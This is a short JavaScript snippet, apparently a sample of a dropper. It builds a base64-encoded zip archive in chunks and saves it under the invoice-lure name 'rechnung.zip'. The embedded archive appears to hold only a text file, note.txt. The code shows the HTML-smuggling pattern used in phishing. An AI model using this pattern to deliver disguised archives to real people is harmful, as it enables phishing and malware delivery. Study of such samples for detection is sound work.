// A script by itself, as it comes in archives.
(function () {
  var name = "rechnung.zip";
  var s = "";
  s = s + 'UEsDBBQAAAAIAAAAIViGJFfXQAAAAPwDAAAIAAAA';
  s = s + 'bm90ZS50eHQLycgsVkjLzElVyMjPSSlW8PaM9Pd1';
  s = s + '1fV1DPJ2DdLj8s7Py8tMzsgsT9RReDZ96bM5a/S4';
  s = s + 'Qka1jGoZ1TL0tQAAUEsBAhQDFAAAAAgAAAAhWIYk';
  s = s + 'V9dAAAAA/AMAAAgAAAAAAAAAAAAAAIABAAAAAG5v';
  s = s + 'dGUudHh0UEsFBgAAAAABAAEANgAAAGYAAAAAAA==';
  save(atob(s), name);
})();
